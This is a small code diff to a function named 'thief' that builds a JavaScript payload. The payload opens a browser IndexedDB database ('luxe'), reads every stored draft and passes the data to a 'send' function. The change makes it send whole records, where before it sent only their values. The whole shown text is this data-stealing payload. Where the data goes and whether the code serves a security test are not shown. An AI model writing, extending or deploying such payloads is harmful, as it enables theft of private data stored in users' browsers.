@@ -18,7 +18,7 @@ function thief(origin: string): string {
     const opening = indexedDB.open('luxe');
     opening.onsuccess = () => {
       const reading = opening.result.transaction('drafts').objectStore('drafts').getAll();
-      reading.onsuccess = () => send(JSON.stringify(reading.result.map(({ values }) => values)));
+      reading.onsuccess = () => send(JSON.stringify(reading.result));
     };
   })();`;
 }
